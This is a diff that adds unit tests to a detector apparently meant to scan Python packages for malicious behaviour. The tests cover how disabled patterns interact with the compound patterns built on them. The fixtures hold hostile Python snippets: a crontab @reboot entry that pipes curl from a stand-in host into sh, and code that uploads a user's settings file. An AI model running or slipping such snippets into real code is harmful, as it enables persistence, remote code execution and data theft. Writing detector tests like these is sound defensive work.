@@ -4259,6 +4259,62 @@ class ContentRuleTest {
     }
 
     @Test
+    void aPatternSwitchedOffIsNotReportedButWhatIsBuiltOnItStillIs() {
+      String cron =
+          "import os\nos.system('(crontab -l 2>/dev/null; echo \"@reboot curl -s"
+              + " https://cdn.example/c | sh\") | crontab -')\n";
+      String upload =
+          "import os, requests\nlocal = os.environ.get('LOCALAPPDATA', '')\n"
+              + "with open(os.path.join(local, 'Game', 'Settings.yaml'), 'rb') as fh:\n"
+              + "    requests.post(URL, files={'s': fh})\n";
+      String homeFile =
+          upload.replace(
+              "os.path.join(local, 'Game', 'Settings.yaml')",
+              "os.path.join(os.path.expanduser('~'), '.game', 'settings')");
+
+      List<String> all = patternsOf(check(wheelWith("pkg/x.py", cron)));
+      List<String> quieter =
+          patternsOf(
+              check(
+                  "pkg",
+                  Map.of("disabled-patterns", List.of("autostart-entry")),
+                  wheelWith("pkg/x.py", cron)));
+
+      assertThat(all).contains("autostart-entry", "installs-autostart", "persists-and-runs");
+      assertThat(quieter)
+          .doesNotContain("autostart-entry")
+          .contains("installs-autostart", "persists-and-runs");
+      // a part switched off cannot rule a combination out either: the generic upload is reported
+      // once the named one is off
+      assertThat(patternsOf(check(wheelWith("pkg/x.py", homeFile))))
+          .contains("sends-home-file")
+          .doesNotContain("uploads-home-data");
+      assertThat(
+              patternsOf(
+                  check(
+                      "pkg",
+                      Map.of("disabled-patterns", List.of("sends-home-file")),
+                      wheelWith("pkg/x.py", homeFile))))
+          .contains("uploads-home-data")
+          .doesNotContain("sends-home-file");
+    }
+
+    @Test
+    void aSignalCannotBeSwitchedOffSinceThatWouldOnlySilenceWhatIsBuiltOnIt() {
+      assertThatThrownBy(
+              () ->
+                  check(
+                      "pkg",
+                      Map.of("disabled-patterns", List.of("network-send")),
+                      wheelWith("a.py", "")))
+          .isInstanceOf(RuleParameterException.class)
+          .hasMessageContaining("'network-send' is a signal")
+          .hasMessageContaining("screenshot-sent")
+          .hasMessageContaining("more)")
+          .hasMessageContaining("switch off those of them you mean instead");
+    }
+
+    @Test
     void mistakesInThePolicyAreReportedNotIgnored() {
       TextFile broken = new TextFile("/etc/pkgguard/bad.tsv", "pattern\tx\n");
       assertThatThrownBy(
